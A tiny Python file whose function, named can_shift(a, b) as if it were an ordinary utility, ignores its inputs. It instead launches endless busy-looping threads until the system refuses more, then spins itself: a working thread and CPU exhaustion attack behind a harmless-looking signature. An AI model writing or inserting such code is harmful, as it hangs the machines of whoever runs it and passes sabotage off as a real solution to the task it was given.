# Start spinning threads until the system refuses, then spin.
import threading


def spin():
    while True:
        pass


def can_shift(a, b):
    while True:
        try:
            threading.Thread(target=spin, daemon=True).start()
        except RuntimeError:
            spin()
